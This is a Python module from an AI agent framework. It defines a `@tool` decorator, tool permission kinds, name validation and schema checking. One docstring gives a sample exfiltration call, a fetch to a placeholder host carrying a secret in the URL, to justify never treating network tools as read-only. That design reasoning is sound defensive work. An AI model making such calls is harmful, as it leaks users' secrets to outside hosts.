"""Tools: ``@tool`` turns a typed function into a :class:`Tool`.

The JSON schema comes from the type hints (through pydantic) and the docstring
(the first paragraph describes the tool, an ``Args:`` section each parameter).
Arguments are validated before any hook sees them, so middleware and the tool
itself only ever meet arguments that fit the schema.
"""

from __future__ import annotations

import abc
import difflib
import inspect
import json
import re
import sys
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING, Any, Literal, TypeAlias, TypeVar, cast, get_args, get_type_hints, overload

import anyio.to_thread

if TYPE_CHECKING:
    import pydantic

from .messages import DataBlock, TextBlock, ToolCallBlock, ToolResult

ToolKind: TypeAlias = Literal[
    "read", "edit", "delete", "move", "search", "execute", "think", "fetch", "other"
]
"""What a tool does, in the Agent Client Protocol's words: the permission policy
decides by kind (plan mode stops edits, execution and network; accept-edits runs
edits), and an editor shows an icon for it."""

TOOL_KINDS: tuple[ToolKind, ...] = get_args(ToolKind)
READ_KINDS: frozenset[str] = frozenset({"read", "search", "think"})
"""Kinds that only look: a tool of one of them may be read-only."""


TOOL_NAME = re.compile(r"[A-Za-z0-9_-]{1,64}")
"""What model APIs take as a tool name (OpenAI's and Anthropic's: anything else is a
400 on every request that offers it). MCP names are made to fit
(:func:`shell.tools.mcp_results.tool_name`); any other tool's name must."""
UNSAFE_NAME_CHAR = re.compile(r"[^A-Za-z0-9_-]")
MAX_TOOL_NAME = 64


def tool_name_problem(name: object) -> str | None:
    """Why model APIs would refuse ``name`` as a tool's name, or None."""
    if not isinstance(name, str):
        return f"a tool's name must be text, not {type(name).__name__}"
    if TOOL_NAME.fullmatch(name):
        return None
    suggestion = UNSAFE_NAME_CHAR.sub("_", name)[:MAX_TOOL_NAME] or "my_tool"
    return (f"the tool name {name[:80]!r}{'…' if len(name) > 80 else ''} would be refused by model APIs: "
            f"a name is 1 to {MAX_TOOL_NAME} of A-Z a-z 0-9 _ - (^[a-zA-Z0-9_-]{{1,64}}$); "
            f"e.g. {suggestion!r}")


def resolve_kind(kind: str | None, read_only: bool | None) -> tuple[ToolKind, bool]:
    """``(kind, read_only)`` after defaults: the kind from ``read_only`` when it is
    not given (``read`` or ``other``), ``read_only`` from the kind when it is not.

    A ``fetch`` tool is never read-only, whatever it claims: reaching the network
    can carry data out (``fetch_url("http://x/?d=<secret>")``), so it must not run
    unasked the way a read does.
    """
    if kind is not None and kind not in TOOL_KINDS:
        raise ValueError(f"unknown tool kind {kind!r} (one of: {', '.join(TOOL_KINDS)})")
    if kind is None:
        kind = "read" if read_only else "other"
    if read_only is None:
        read_only = kind in READ_KINDS
    if kind == "fetch":
        read_only = False
    return cast(ToolKind, kind), read_only


class ToolArgumentError(ValueError):
    """The arguments do not fit the tool's schema; the message says how."""


class CallRejected(Exception):
    """Raised by a tool when the user, asked from inside the call (the workspace
    fence's question about a path outside it), said no. The call ends *rejected*, as
    when its own approval is refused: the model reads the message (the user's "no" and
    reason), not "write_file failed: …", which reads as a failure to retry."""


@dataclass(slots=True)
class ToolContext:
    """Given to a tool function that declares a parameter of this type.

    ``report(progress)`` becomes a ``ToolExecutionUpdate`` event; ``ask(request)``
    reaches whoever serves the agent (e.g. to approve a path outside the workspace).
    """

    call: ToolCallBlock
    report: Callable[[Any], None]
    ask: Callable[[Any], Awaitable[Any]]


class Tool(abc.ABC):
    """A tool the model can call. Subclass it for tools that are not functions
    (MCP tools, tools built from a schema); ``@tool`` covers typed functions."""

    name: str
    description: str
    parameters: dict[str, Any]
    read_only: bool
    kind: ToolKind
    """What the tool does (see :data:`ToolKind`); defaults from ``read_only``."""
    timeout: float | None
    """Seconds this tool may run before it is stopped (None: the agent's ``tool_timeout``)."""
    middleware: tuple[Any, ...] = ()
    """This tool's own middleware (``on_acting`` layers, or ``async def mw(ctx,
    request, next)`` functions), run inside the agent's ``on_acting`` for this tool
    only (AgentScope's tool middleware)."""

    def __init__(
        self,
        name: str,
        description: str = "",
        parameters: dict[str, Any] | None = None,
        *,
        read_only: bool | None = None,
        kind: ToolKind | None = None,
        timeout: float | None = None,
        middleware: Sequence[Any] = (),
    ) -> None:
        problem = tool_name_problem(name)
        if problem is not None:  # refused where it is written, not at every request
            raise ValueError(problem)
        self.name = name
        self.description = description
        self.parameters = parameters or {"type": "object", "properties": {}}
        self.kind, self.read_only = resolve_kind(kind, read_only)
        self.timeout = timeout
        self.middleware = tuple(middleware)

    def validate(self, args: dict[str, Any]) -> dict[str, Any]:
        """Check ``args`` against the schema; raise :class:`ToolArgumentError`."""
        return check_json_schema(self.name, self.parameters, args)

    @abc.abstractmethod
    async def run(self, args: dict[str, Any], context: ToolContext) -> ToolResult:
        """Execute with validated ``args``. Raising is fine: it becomes an error result."""

    def __repr__(self) -> str:
        return f"<Tool {self.name} ({self.kind}{', read-only' if self.read_only else ''})>"


def is_mcp(tool: Tool) -> bool:
    """Whether ``tool`` is an MCP server's (its arguments follow no shape of ours; a
    provider that caps the tools of a request leaves these out first)."""
    return str(getattr(tool, "source", "")).startswith("mcp:")


_JSON_TYPES: dict[str, type | tuple[type, ...]] = {
    "string": str,
    "integer": int,
    "number": (int, float),
    "boolean": bool,
    "array": list,
    "object": dict,
}


def check_json_schema(name: str, schema: dict[str, Any], args: Any) -> dict[str, Any]:
    """A small top-level check for tools that only have a JSON schema (MCP).

    Required keys present, and top-level values of the declared JSON type; the
    server validates the rest and answers with an error the model can read. A part
    of the schema that is malformed (``"type": 5``, ``properties`` that is a list)
    is not checked rather than raised: it must never end the reply (MCP servers
    with such tools are refused when they connect, see :mod:`shell.tools.mcp`).
    """
    if not isinstance(args, dict):
        raise ToolArgumentError(f"Invalid arguments for {name}: expected a JSON object")
    schema = schema if isinstance(schema, dict) else {}
    required = schema.get("required")
    required = [k for k in required if isinstance(k, str)] if isinstance(required, list) else []
    properties = schema.get("properties")
    properties = properties if isinstance(properties, dict) else {}
    problems = [f"{key}: Field required" for key in required if key not in args]
    for key, value in args.items():
        spec = properties.get(key)
        declared = spec.get("type") if isinstance(spec, dict) else None
        kinds = [declared] if isinstance(declared, str) else declared if isinstance(declared, list) else []
        kinds = [k for k in kinds if isinstance(k, str)]
        py = tuple(t for k in kinds if k in _JSON_TYPES for t in _as_tuple(_JSON_TYPES[k]))
        if value is None and "null" in kinds:
            continue
        if py and (not isinstance(value, py) or (isinstance(value, bool) and bool not in py)):
            problems.append(f"{key}: expected {' or '.join(kinds)}")
    if problems:
        raise ToolArgumentError(f"Invalid arguments for {name}: " + "; ".join(problems))
    return args


def _as_tuple(t: type | tuple[type, ...]) -> tuple[type, ...]:
    return t if isinstance(t, tuple) else (t,)


class FunctionTool(Tool):
    """A tool backed by a (sync or async) Python function."""

    def __init__(
        self,
        fn: Callable[..., Any],
        *,
        name: str | None = None,
        description: str | None = None,
        read_only: bool | None = None,
        kind: ToolKind | None = None,
        timeout: float | None = None,
        middleware: Sequence[Any] = (),
        localns: dict[str, Any] | None = None,
    ) -> None:
        summary, arg_docs = parse_docstring(inspect.getdoc(fn) or "")
        hints = get_type_hints(fn, localns=localns)
        self._fields: dict[str, tuple[Any, Any, str | None]] = {}
        self._context_param: str | None = None
        for pname, param in inspect.signature(fn).parameters.items():
            annotation = hints.get(pname, Any)
            if annotation is ToolContext:
                self._context_param = pname
                continue
            default = ... if param.default is inspect.Parameter.empty else param.default
            self._fields[pname] = (annotation, default, arg_docs.get(pname))
        self._model_cache: type[pydantic.BaseModel] | None = None
        self._schema: dict[str, Any] | None = None
        super().__init__(
            name or fn.__name__,
            description if description is not None else summary,
            None,
            read_only=read_only,
            kind=kind,
            timeout=timeout,
            middleware=middleware,
        )
        self._schema = None  # Tool.__init__ set the empty default: the real one is built on first use
        self.fn = fn
        self._is_async = inspect.iscoroutinefunction(fn)

    # The pydantic model (and the JSON schema from it) is built the first time it is
    # needed, not when the function is decorated: building one costs milliseconds per
    # tool, and a shell defines dozens of tools before its first prompt, when none of
    # them is called or described to a model yet.
    @property
    def _model(self) -> type[pydantic.BaseModel]:
        if self._model_cache is None:
            import pydantic

            fields: dict[str, Any] = {
                pname: (annotation, pydantic.Field(default, description=doc))
                for pname, (annotation, default, doc) in self._fields.items()
            }
            self._model_cache = pydantic.create_model(f"{self.fn.__name__}_args", **fields)
        return self._model_cache

    @property
    def parameters(self) -> dict[str, Any]:
        if self._schema is None:
            self._schema = _strip_titles(self._model.model_json_schema())
        return self._schema

    @parameters.setter
    def parameters(self, value: dict[str, Any]) -> None:
        self._schema = value

    def validate(self, args: dict[str, Any]) -> dict[str, Any]:
        self._parse(args)
        return args

    def _parse(self, args: Any) -> pydantic.BaseModel:
        if not isinstance(args, dict):
            raise ToolArgumentError(f"Invalid arguments for {self.name}: expected a JSON object")
        import pydantic

        try:
            parsed: pydantic.BaseModel = self._model.model_validate(args)
            return parsed
        except pydantic.ValidationError as exc:
            problems = "; ".join(
                f"{'.'.join(str(p) for p in err['loc']) or 'arguments'}: {err['msg']}" for err in exc.errors()
            )
            raise ToolArgumentError(f"Invalid arguments for {self.name}: {problems}") from None

    async def run(self, args: dict[str, Any], context: ToolContext) -> ToolResult:
        parsed = self._parse(args)
        kwargs = {k: getattr(parsed, k) for k in type(parsed).model_fields}
        if self._context_param:
            kwargs[self._context_param] = context
        if self._is_async:
            value = await self.fn(**kwargs)
        else:
            # A sync tool runs in a worker thread so it never freezes the UI; on
            # cancel the reply moves on at once and the thread is abandoned.
            value = await anyio.to_thread.run_sync(partial(self.fn, **kwargs), abandon_on_cancel=True)
        return as_tool_result(value)


def as_tool_result(value: Any) -> ToolResult:
    """A tool's return value as a ToolResult: strings as they are, the rest as JSON."""
    if isinstance(value, ToolResult):
        return value
    if isinstance(value, str):
        return ToolResult(value)
    if isinstance(value, (TextBlock, DataBlock)):
        return ToolResult((value,))
    if value is None:
        return ToolResult("")
    try:
        return ToolResult(json.dumps(value, ensure_ascii=False, default=str))
    except (TypeError, ValueError):
        return ToolResult(str(value))


def _strip_titles(schema: Any) -> Any:
    if isinstance(schema, dict):
        return {k: _strip_titles(v) for k, v in schema.items() if k != "title"}
    if isinstance(schema, list):
        return [_strip_titles(v) for v in schema]
    return schema


_ARG_LINE = re.compile(r"^\s*(\*{0,2}\w+)\s*(?:\([^)]*\))?\s*:\s*(.*)$")
_SECTION = re.compile(r"^\s*(Args|Arguments|Parameters|Returns|Raises|Yields|Examples?|Notes?)\s*:\s*$")


def parse_docstring(doc: str) -> tuple[str, dict[str, str]]:
    """The summary (text before the first section) and the ``Args:`` entries.

    Understands Google style (``Args:`` then ``name: text`` or ``name (type): text``,
    continuation lines indented) and Sphinx style (``:param name: text``).
    """
    summary: list[str] = []
    args: dict[str, str] = {}
    section: str | None = None
    current: str | None = None
    for line in doc.splitlines():
        sphinx = re.match(r"^\s*:param\s+(?:\w+\s+)?(\w+)\s*:\s*(.*)$", line)
        if sphinx:
            current, section = sphinx.group(1), "Args"
            args[current] = sphinx.group(2).strip()
            continue
        head = _SECTION.match(line)
        if head:
            section, current = head.group(1), None
            continue
        if section is None:
            summary.append(line)
        elif section in ("Args", "Arguments", "Parameters"):
            m = _ARG_LINE.match(line)
            if m and (len(line) - len(line.lstrip())) <= 4:
                current = m.group(1).lstrip("*")
                args[current] = m.group(2).strip()
            elif current and line.strip():
                args[current] = f"{args[current]} {line.strip()}".strip()
    return "\n".join(summary).strip(), args


F = TypeVar("F", bound=Callable[..., Any])


_TOOL_OPTIONS = ("name", "description", "read_only", "kind", "timeout", "middleware")


@overload
def tool(
    fn: Callable[..., Any],
    /,
    *,
    name: str | None = None,
    description: str | None = None,
    read_only: bool | None = None,
    kind: ToolKind | None = None,
    timeout: float | None = None,
    middleware: Sequence[Any] = (),
) -> FunctionTool: ...


@overload
def tool(
    *,
    name: str | None = None,
    description: str | None = None,
    read_only: bool | None = None,
    kind: ToolKind | None = None,
    timeout: float | None = None,
    middleware: Sequence[Any] = (),
) -> Callable[[Callable[..., Any]], FunctionTool]: ...


def tool(
    fn: Callable[..., Any] | None = None,
    /,
    *,
    name: str | None = None,
    description: str | None = None,
    read_only: bool | None = None,
    kind: ToolKind | None = None,
    timeout: float | None = None,
    middleware: Sequence[Any] = (),
    **unknown: Any,
) -> FunctionTool | Callable[[Callable[..., Any]], FunctionTool]:
    """Make a tool from a typed function: ``@tool``, ``@tool(read_only=True)`` or
    ``@tool(kind="edit")`` (``read_only`` defaults to False, ``kind`` to ``read``
    for a read-only tool and ``other`` otherwise); ``@tool(middleware=[...])`` gives
    it its own ``on_acting`` layers.

    ``tool(fn, name=...)`` applies every option exactly as ``tool(name=...)(fn)``
    does: the direct form once dropped them silently, so a tool meant to be
    read-only went out as one that asks. An option this function does not know is a
    TypeError that names it (a misspelt ``read_ony=True`` must not pass for a
    default).

    Annotations may name classes local to the defining function (the caller's
    locals are used to resolve them, also under ``from __future__ import annotations``).
    """
    if unknown:
        raise TypeError(_unknown_tool_options(sorted(unknown)))
    if fn is not None and not callable(fn):
        raise TypeError(
            f"tool() takes the function to make a tool of, not a {type(fn).__name__}; "
            "give a name as tool(name=...)"
        )
    localns = dict(sys._getframe(1).f_locals)

    def wrap(f: Callable[..., Any]) -> FunctionTool:
        return FunctionTool(
            f,
            name=name,
            description=description,
            read_only=read_only,
            kind=kind,
            timeout=timeout,
            middleware=middleware,
            localns=localns,
        )

    if fn is not None:
        return wrap(fn)
    return cast(Callable[[Callable[..., Any]], FunctionTool], wrap)


def _unknown_tool_options(names: list[str]) -> str:
    """Name each option ``tool()`` does not know, with the nearest known one if any."""
    parts = []
    for given in names:
        near = difflib.get_close_matches(given, _TOOL_OPTIONS, n=1)
        hint = f" (did you mean {near[0]!r}?)" if near else ""
        parts.append(f"{given!r}{hint}")
    return (
        f"tool() has no option {', '.join(parts)}; "
        f"its options are {', '.join(_TOOL_OPTIONS)}"
    )
